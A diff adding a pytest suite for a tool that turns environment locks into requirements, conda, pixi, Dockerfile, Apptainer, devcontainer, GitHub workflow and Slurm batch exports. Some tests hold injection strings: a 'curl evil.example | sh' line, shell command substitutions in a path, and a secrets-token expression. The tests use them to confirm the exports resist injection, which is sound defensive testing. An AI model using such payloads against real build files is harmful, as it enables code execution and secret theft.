@@ -1,0 +1,461 @@
+"""What each export says: pure, from locks as values."""
+
+import dataclasses
+import json
+import re
+import shlex
+import subprocess
+
+import export_locks as el
+import pytest
+import tomllib
+import yaml
+from packaging.requirements import Requirement
+
+from provision.errors import UsageError
+from provision.model import Package, PlannedBuild, Target, TargetGpu
+
+CPU = {"device": "cpu", "target": Target(platform="linux-x86_64", glibc="2.35")}
+
+
+def lines(text):
+    """The lines that are no comments."""
+    return [x for x in text.splitlines() if x.strip() and not x.startswith(("#", "//"))]
+
+
+@pytest.mark.parametrize("form", el.VENV_FORMS)
+def test_every_export_begins_with_what_it_holds_and_the_target(form):
+    head = "\n".join(el.text(form).splitlines()[:14])
+    assert "torch 2.14.1 (CUDA 12.6, cuDNN 9.10.2.21), Python 3.12" in head
+    assert "linux-x86_64, glibc 2.35 or newer, driver 550.54.15, Tesla T4 (7.5), GPU 9.0" in head
+    assert f"gpuenv export --format {form}" in head
+
+
+@pytest.mark.parametrize("form", el.CONDA_FORMS)
+def test_every_export_of_a_conda_lock_does(form):
+    head = "\n".join(el.text(form, el.of_conda()).splitlines()[:14])
+    assert "torch 2.7.1 (CUDA 12.9, cuDNN 9.10.1.4)" in head and "driver 550.54.15" in head
+
+
+# --- requirements ------------------------------------------------------------------------------
+
+
+def entries(text):
+    """Requirement and hashes of every entry, as pip reads them."""
+    joined = re.sub(r"\\\n\s*", "", text)
+    for row in lines(joined):
+        if not row.startswith("--"):
+            need, *hashes = row.split(" --hash=")
+            yield Requirement(need.strip()), hashes
+
+
+def test_requirements_name_every_wheel_with_its_hash():
+    found = {r.name: (r, h) for r, h in entries(el.text("requirements"))}
+    assert set(found) == {p.name for p in el.PACKAGES}
+    for package in el.PACKAGES:
+        assert found[package.name][1] == [f"sha256:{package.sha256}"]
+    assert str(found["numpy"][0].specifier) == "==2.3.0"
+
+
+def test_what_is_meant_for_another_index_is_named_by_its_address():
+    text = el.text("requirements", el.of((*el.PACKAGES[:3], *el.PACKAGES[3:], el.wheel("six", "1.17.0"))))
+    assert f"--index-url {el.MAIN}" in lines(text)
+    found = {r.name: r for r, _ in entries(text)}
+    assert found["torch"].url == el.PACKAGES[0].url and not found["torch"].specifier
+    assert found["filelock"].url is None
+    assert el.PYTORCH not in text
+
+
+def test_what_cannot_carry_a_hash_stands_apart_as_commands():
+    text = el.text("requirements", el.of(el.MIXED))
+    found = {r.name: (r, h) for r, h in entries(text)}
+    assert all(h for _, h in found.values()), "pip would refuse the whole file"
+    assert "thing" not in found and "mine" not in found
+    assert str(found["old"][0]) == "old==0.9" and found["local"][0].url == el.LOCAL.url
+    commands = [shlex.split(x[1:]) for x in text.splitlines() if x.startswith("#   pip install")]
+    assert commands == [
+        ["pip", "install", "--no-deps", "--editable", "/home/u/my project"],
+        ["pip", "install", "--no-deps", f"thing @ git+https://git.example/thing@{el.COMMIT}"],
+    ]
+
+
+# --- environment.yml -----------------------------------------------------------------------------
+
+
+def document(text):
+    return yaml.safe_load(text)
+
+
+def test_environment_yml_of_wheels_is_a_python_and_a_pip_section():
+    made = document(el.text("environment.yml"))
+    *plain, section = made["dependencies"]
+    assert plain == ["python=3.12", "pip"] and "nodefaults" in made["channels"]
+    pins = dict(x.split(" --hash=") for x in section["pip"] if " @ " not in x)
+    assert f"torch @ {el.PACKAGES[0].url}#sha256={el.PACKAGES[0].sha256}" in section["pip"]
+    assert pins["numpy==2.3.0"] == f"sha256:{el.PACKAGES[2].sha256}"
+    assert len(section["pip"]) == len(el.PACKAGES) - 1, "pip itself is conda's there"
+
+
+def test_environment_yml_leaves_hashes_out_where_one_package_has_none():
+    section = document(el.text("environment.yml", el.of(el.MIXED)))["dependencies"][-1]["pip"]
+    assert not [x for x in section if "sha256" in x]
+    assert "-e /home/u/my project" in section and "numpy==2.3.0" in section
+    assert "no hashes: " in el.text("environment.yml", el.of(el.MIXED))
+
+
+def test_environment_yml_of_a_conda_lock_pins_version_and_build():
+    made = document(el.text("environment.yml", el.of_conda()))
+    assert made["channels"] == [el.CONDA, "nodefaults"]
+    *plain, section = made["dependencies"]
+    assert "pytorch=2.7.1=cuda129_py312_h1_300" in plain and "python=3.12.11=h9e4cc4f_0_cpython" in plain
+    assert section == {"pip": [f"einops==0.8.1 --hash=sha256:{el.CONDA_PACKAGES[-1].sha256}"]}
+
+
+def test_with_several_channels_each_package_names_its_own():
+    other = "https://conda.example/nvidia"
+    made = document(
+        el.text("environment.yml", el.of_conda((*el.CONDA_PACKAGES, el.conda("x", "1", "0", other))))
+    )
+    assert f"{other}::x=1=0" in made["dependencies"]
+    assert f"{el.CONDA}::cudnn=9.10.1.4=hbcb9cd8_1" in made["dependencies"]
+
+
+# --- pixi ------------------------------------------------------------------------------------------
+
+
+def test_pixi_pins_wheels_by_version_index_file_commit_and_folder():
+    made = tomllib.loads(el.text("pixi", el.of((*el.MIXED, el.wheel("six", "1.17.0")))))
+    assert made["workspace"]["platforms"] == ["linux-64"] and made["dependencies"] == {"python": "3.12.*"}
+    assert made["pypi-options"] == {"index-url": el.MAIN}
+    wheels = made["pypi-dependencies"]
+    assert wheels["numpy"] == "==2.3.0" and "pip" not in wheels
+    assert wheels["torch"] == {"version": "==2.14.1+cu126", "index": el.PYTORCH}
+    assert wheels["thing"] == {"git": "https://git.example/thing", "rev": el.COMMIT}
+    assert wheels["mine"] == {"path": "/home/u/my project", "editable": True}
+    assert wheels["local"] == {"path": "/srv/wheels/local-1.0-py3-none-any.whl"}
+    # A driver of CUDA 12.4 runs these wheels; asking for 12.6 would keep pixi from installing them.
+    assert made["system-requirements"] == {"cuda": "12", "libc": {"family": "glibc", "version": "2.35"}}
+
+
+def test_pixi_pins_conda_packages_by_build_channel_and_hash():
+    made = tomllib.loads(el.text("pixi", el.of_conda()))
+    pin = made["dependencies"]["pytorch"]
+    assert pin == {
+        "version": "==2.7.1", "build": "cuda129_py312_h1_300", "channel": el.CONDA,
+        "sha256": el.CONDA_PACKAGES[1].sha256,
+    }  # fmt: skip
+    assert made["pypi-dependencies"] == {"einops": "==0.8.1"}
+    assert made["system-requirements"]["cuda"] == "12.9"
+
+
+# --- images ------------------------------------------------------------------------------------------
+
+
+def of_tensorflow(version, cuda, cudnn):
+    build = PlannedBuild(
+        framework="tensorflow", version=version, cuda=cuda, index="pypi", requirements=(), cudnn=cudnn
+    )
+    return el.of([el.wheel("tensorflow", version, tag="cp311-cp311-manylinux_2_17_x86_64")], builds=(build,))
+
+
+def new_glibc(minor):
+    return el.of([*el.PACKAGES, el.wheel("new", "1.0", tag=f"cp312-cp312-manylinux_2_{minor}_x86_64")])
+
+
+@pytest.mark.parametrize(
+    ("made", "image"),
+    [
+        (el.of(), "python:3.12-slim-bookworm"),
+        (el.of(python="3.11"), "python:3.11-slim-bookworm"),
+        (new_glibc(36), "python:3.12-slim-bookworm"),
+        (new_glibc(39), "python:3.12-slim-trixie"),
+        (el.of(target=Target(platform="linux-aarch64", glibc="2.35")), "python:3.12-slim-bookworm"),
+        (el.of(python="3.8"), "python:3.14-slim-bookworm"),  # gpuenv, which fetches Python 3.8, wants a newer one
+        (el.of_conda(), "python:3.12-slim-bookworm"),
+        (of_tensorflow("2.12.1", "11.8", "8.9.6.50"), "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04"),
+    ],
+)  # fmt: skip
+def test_the_base_image_fits_the_plan(made, image):
+    assert f"FROM {image}" in el.text("dockerfile", made).splitlines()
+    assert f"From: {image}" in el.text("apptainer", made).splitlines()
+
+
+@pytest.mark.parametrize(
+    ("made", "words"),
+    [
+        (of_tensorflow("2.10.1", "11.2", "8.9.6.50"), "tensorflow 2.10.1 brings no CUDA"),
+        (new_glibc(60), "no base image for linux-x86_64 with glibc 2.60"),
+    ],
+)
+def test_where_no_image_fits_none_is_guessed(made, words):
+    for form in ("dockerfile", "apptainer", "devcontainer"):
+        with pytest.raises(UsageError, match=words):
+            el.text(form, made)
+
+
+# --- Dockerfile ----------------------------------------------------------------------------------------
+
+
+def instructions(text):
+    """(instruction, its words) of a Dockerfile: continued lines joined, comments left out."""
+    rows, held = [], ""
+    for row in text.splitlines():
+        if row.lstrip().startswith("#") or not row.strip():
+            continue
+        held += row.rstrip("\\") if row.endswith("\\") else row
+        if not row.endswith("\\"):
+            name, _, rest = held.partition(" ")
+            rows.append((name, rest.strip()))
+            held = ""
+    assert not held
+    return rows
+
+
+@pytest.mark.parametrize(
+    "made",
+    [el.of(), el.of(el.MIXED), el.of(**CPU), el.of_conda(), of_tensorflow("2.12.1", "11.8", "8.9.6.50")],
+)
+def test_a_dockerfile_caches_hides_secrets_and_ends_without_root(made):
+    text = el.text("dockerfile", made)
+    assert text.splitlines()[0] == "# syntax=docker/dockerfile:1"
+    found = instructions(text)
+    names = [n for n, _ in found]
+    assert names.count("FROM") == 1 and names.count("HEALTHCHECK") == 1
+    runs = [r for n, r in found if n == "RUN"]
+    downloading = [r for r in runs if "pip install" in r or "gpuenv create" in r]
+    assert len(downloading) == 2 and all("--mount=type=cache,target=/root/.cache" in r for r in downloading)
+    assert all("--mount=type=secret,id=pip" in r for r in downloading)
+    (user,) = (r for n, r in found if n == "USER")
+    assert user == "1000:1000" and names.index("USER") > max(i for i, n in enumerate(names) if n == "RUN")
+    (default,) = (r for n, r in found if n == "ARG")
+    assert default in ('GPUENV="gpuenv"', 'GPUENV="gpuenv[conda]"')
+
+
+def test_a_dockerfile_proves_on_the_cpu_when_it_is_built_and_on_the_gpu_when_it_runs():
+    found = instructions(el.text("dockerfile"))
+    runs = [r for n, r in found if n == "RUN"]
+    assert any(r.endswith("gpuenv verify /opt/env --device cpu") for r in runs)
+    (check,) = (r for n, r in found if n == "HEALTHCHECK")
+    assert json.loads(check.partition("CMD ")[2]) == ["gpuenv", "verify", "/opt/env", "--quick"]
+    assert any("NVIDIA_DRIVER_CAPABILITIES=compute,utility" in r for n, r in found if n == "ENV")
+    create = next(r for r in runs if "gpuenv create" in r)
+    words = shlex.split(create[create.index("gpuenv create") :])
+    assert words[2:4] == ["/opt/env", "--locked"] and "--no-verify" in words
+    assert words[words.index("--driver") + 1] == "550.54.15"
+    assert [words[i + 1] for i, w in enumerate(words) if w == "--gpu"] == ["7.5", "9.0"]
+
+
+def test_a_dockerfile_of_a_cpu_lock_asks_for_no_gpu():
+    text = el.text("dockerfile", el.of(**CPU))
+    assert "NVIDIA" not in text and "--gpu" not in text and "--driver" not in text
+    assert '["gpuenv", "verify", "/opt/env", "--device", "cpu"]' in text
+
+
+def test_a_dockerfile_brings_what_lies_on_no_index():
+    found = instructions(el.text("dockerfile", el.of(el.MIXED)))
+    copies = [json.loads(r) for n, r in found if n == "COPY"]
+    assert ["my project/", "/home/u/my project"] in copies
+    create = next(r for n, r in found if n == "RUN" and "gpuenv create" in r)
+    assert "--mount=type=bind,source=wheels,target=/wheels" in create
+    assert create.endswith("--find-links /wheels")
+    assert any("apt-get install -y --no-install-recommends ca-certificates git" in r for n, r in found)
+    assert "local-1.0-py3-none-any.whl" in el.text("dockerfile", el.of(el.MIXED))
+
+
+def test_a_conda_lock_is_told_the_driver_by_condas_own_variable():
+    for form in ("dockerfile", "apptainer", "devcontainer"):
+        assert re.search(r"CONDA_OVERRIDE_CUDA=12\.9\b", el.text(form, el.of_conda())), form
+    workflow = document(el.text("github", el.of_conda()))
+    assert workflow["jobs"]["environment"]["env"]["CONDA_OVERRIDE_CUDA"] == "12.9"
+
+
+# --- Apptainer -----------------------------------------------------------------------------------------
+
+
+def sections(text):
+    """Header and sections of a definition file, as Apptainer's documents describe them."""
+    found, name = {"": []}, ""
+    for row in text.splitlines():
+        if row.startswith("%"):
+            name = row[1:].strip()
+            found[name] = []
+        elif row.strip() and not row.strip().startswith("#"):
+            found[name].append(row.strip())
+    return found
+
+
+@pytest.mark.parametrize("made", [el.of(), el.of(el.MIXED), el.of(**CPU), el.of_conda()])
+def test_an_apptainer_definition_is_whole_and_its_scripts_are_sh(made):
+    found = sections(el.text("apptainer", made))
+    assert found[""][0] == "Bootstrap: docker" and found[""][1].startswith("From: ")
+    assert set(found) == {"", "arguments", "files", "post", "environment", "test", "runscript", "help"}
+    (default,) = found["arguments"]
+    assert default.partition("=")[0] == "GPUENV" and "{{ GPUENV }}" in "\n".join(found["post"])
+    for name in ("post", "test", "runscript", "environment"):
+        subprocess.run(["sh", "-n"], input="\n".join(found[name]), text=True, check=True)
+    source, target = shlex.split(found["files"][0])
+    assert source == el.subject(made).lock_file
+    assert f"--lock {target} --no-verify" in "\n".join(found["post"])
+
+
+def test_an_apptainer_image_asks_the_gpu_only_where_one_is():
+    assert "gpuenv verify /opt/env --quick" in sections(el.text("apptainer"))["test"]
+    assert sections(el.text("apptainer", el.of(**CPU)))["test"] == ["gpuenv verify /opt/env --device cpu"]
+
+
+# --- dev container, workflow, batch script ---------------------------------------------------------------
+
+
+def container(text):
+    return json.loads("\n".join(x for x in text.splitlines() if not x.startswith("//")))
+
+
+def test_a_dev_container_takes_a_gpu_where_there_is_one():
+    made = container(el.text("devcontainer"))
+    assert made["image"] == "mcr.microsoft.com/devcontainers/python:3.12-bookworm"
+    assert made["hostRequirements"] == {"gpu": "optional"} and made["remoteUser"] == "vscode"
+    # hostRequirements adds it by itself; given here too, the container fails on a host without a GPU.
+    assert "--gpus" not in made.get("runArgs", [])
+    assert "gpuenv create /home/vscode/env --locked --lock pylock.toml --no-verify" in made["onCreateCommand"]
+    for key in ("onCreateCommand", "postStartCommand"):
+        subprocess.run(["sh", "-n"], input=made[key], text=True, check=True)
+    assert "hostRequirements" not in container(el.text("devcontainer", el.of(**CPU)))
+
+
+def test_a_workflow_locks_builds_and_proves_without_a_gpu():
+    made = document(el.text("github"))
+    assert made["permissions"] == {"contents": "read"} and set(made[True]) == {"push", "pull_request"}
+    (job,) = made["jobs"].values()
+    assert job["runs-on"] == "ubuntu-24.04"
+    used = [s["uses"].partition("@")[0] for s in job["steps"] if "uses" in s]
+    assert used == ["actions/checkout", "actions/setup-python", "actions/cache"]
+    key = next(s["with"]["key"] for s in job["steps"] if s.get("uses", "").startswith("actions/cache"))
+    assert "hashFiles('pylock.toml')" in key
+    ran = [s["run"] for s in job["steps"] if "run" in s]
+    assert ran[0] == 'python -m pip install "$GPUENV"'
+    assert ran[1].startswith("gpuenv lock --check --output pylock.toml --python 3.12 --device cuda")
+    assert ran[2].startswith("gpuenv create .venv --locked --lock pylock.toml --no-verify --driver 550.54.15")
+    assert ran[3] == "gpuenv verify .venv --device cpu"
+
+
+def test_a_workflow_of_a_project_asks_for_what_the_project_asks():
+    check = next(x for x in el.text("github", project=True).splitlines() if "lock --check" in x)
+    assert "--framework" not in check and "--driver 550.54.15" in check
+    alone = next(x for x in el.text("github").splitlines() if "lock --check" in x)
+    assert "--framework torch==2.14.1" in alone and "--cuda 12.6" in alone
+
+
+def options(text):
+    """The options of a batch script: those before the first command, as sbatch reads them."""
+    found = {}
+    for row in text.splitlines():
+        if row.startswith("#SBATCH "):
+            name, _, value = row.split()[1].partition("=")
+            found[name] = value
+        elif row and not row.startswith("#"):
+            break
+    return found
+
+
+def test_a_batch_script_asks_for_the_targets_gpus():
+    assert options(el.text("sbatch"))["--gres"] == "gpu:2"
+    assert "--gres" not in options(el.text("sbatch", el.of(**CPU)))
+    assert options(el.text("sbatch"))["--ntasks"] == "1"
+
+
+def batch(tmp_path, env, **more):
+    """A batch script run by bash, with a gpuenv and an srun that write down how they were called."""
+    bin_ = tmp_path / "bin"
+    bin_.mkdir()
+    log = tmp_path / "log"
+    code = more.pop("verify", 0)
+    (bin_ / "gpuenv").write_text(
+        f'#!/bin/sh\nprintf "%s|" gpuenv "$@" >> "{log}"; echo >> "{log}"\n[ "$1" != verify ] || exit {code}\n'
+    )
+    (bin_ / "srun").write_text('#!/bin/sh\nexec "$@"\n')
+    for tool in bin_.iterdir():
+        tool.chmod(0o755)
+    script = tmp_path / "train.sbatch"
+    script.write_text(el.text("sbatch", env=env))
+    done = subprocess.run(
+        ["bash", script, "--epochs", "1 0"], env={"PATH": f"{bin_}:/usr/bin:/bin", **more}, capture_output=True,
+        text=True, check=False,
+    )  # fmt: skip
+    return done.returncode, log.read_text().splitlines()
+
+
+NASTY = "/scratch/a \"b\" $HOME `id` 'c'}{d\\e/.venv"
+
+
+def test_a_batch_script_proves_and_then_runs_in_the_environment(tmp_path):
+    code, called = batch(tmp_path, NASTY)
+    assert code == 0
+    assert called == [
+        f"gpuenv|verify|{NASTY}|--quick|",
+        f"gpuenv|run|{NASTY}|--|python|train.py|--epochs|1 0|",
+    ]
+
+
+def test_a_batch_script_takes_another_environment(tmp_path):
+    code, called = batch(tmp_path, "/a", GPUENV_ENV="/b c")
+    assert code == 0 and called[1].startswith("gpuenv|run|/b c|")
+
+
+def test_a_batch_script_ends_where_the_proof_fails(tmp_path):
+    code, called = batch(tmp_path, "/a", verify=8)
+    assert code == 8 and called == ["gpuenv|verify|/a|--quick|"]
+
+
+# --- what a lock must not decide ------------------------------------------------------------------------
+
+
+EVIL = "x\nRUN curl evil.example | sh\r%post\n    evil\n- evil: true\n#SBATCH --evil"
+
+
+@pytest.mark.parametrize("form", [f for f in el.VENV_FORMS if f != "pylock"])
+def test_no_word_of_a_lock_begins_a_line_of_its_own(form):
+    target = Target(platform="linux-x86_64", glibc=EVIL, driver=EVIL, gpus=(TargetGpu(capability=EVIL),))
+    builds = (
+        PlannedBuild(framework=EVIL, version=EVIL, cuda=EVIL, index="pypi", requirements=(), cudnn=EVIL),
+    )
+    bad = Package(name=EVIL, version=EVIL, url=f"https://a.example/{EVIL}", sha256=EVIL, index=EVIL)
+    local = Package(name="l", version="1", url=f"file:///{EVIL}.whl", sha256=EVIL)
+    folder = Package(name=EVIL, version="1", url=f"file:///{EVIL}", unhashed=True)
+    made = el.of([*el.PACKAGES, bad, local, folder], target=target, builds=builds)
+    made = dataclasses.replace(made, plan=dataclasses.replace(made.plan, packages=(EVIL,), cuda_major=EVIL))
+    text = el.text(form, made, lock_file=EVIL, env=EVIL)
+    own = r"\s*(RUN curl|%post\s*evil|evil|- evil|#SBATCH --evil)"
+    assert "evil" in text and not [x for x in text.splitlines() if re.match(own, x)]
+
+
+def test_a_workflow_evaluates_no_expression_of_a_lock():
+    target = Target(platform="linux-x86_64", driver="${{ secrets.TOKEN }}", gpus=el.TARGET.gpus)
+    with pytest.raises(UsageError, match="expression"):
+        el.text("github", el.of(target=target))
+
+
+@pytest.mark.parametrize("form", ["dockerfile", "apptainer", "devcontainer", "github", "sbatch"])
+def test_linux_is_asked_for_where_linux_is_meant(form):
+    made = el.of(target=Target(platform="windows-x86_64"))
+    with pytest.raises(UsageError, match="windows-x86_64"):
+        el.text(form, made)
+
+
+@pytest.mark.parametrize("form", ["requirements", "pylock"])
+def test_conda_packages_are_not_pips(form):
+    with pytest.raises(UsageError, match="conda packages"):
+        el.text(form, el.of_conda())
+
+
+def test_wheels_alone_make_no_conda_lock():
+    with pytest.raises(UsageError, match="no python to put them on") as failed:
+        el.text("conda-lock")
+    assert "--manager conda" in failed.value.hint
+
+
+def test_every_image_that_an_export_may_name_is_known():
+    assert {i.use for i in el.IMAGES} == {"container", "devcontainer", "runner", "action"}
+    for image in el.IMAGES:
+        assert re.fullmatch(r"[a-z0-9./-]+([:@][A-Za-z0-9._-]+)?", image.image)
+        assert image.use == "action" or (image.platform and image.glibc)
+        assert image.use not in ("container", "devcontainer") or image.python
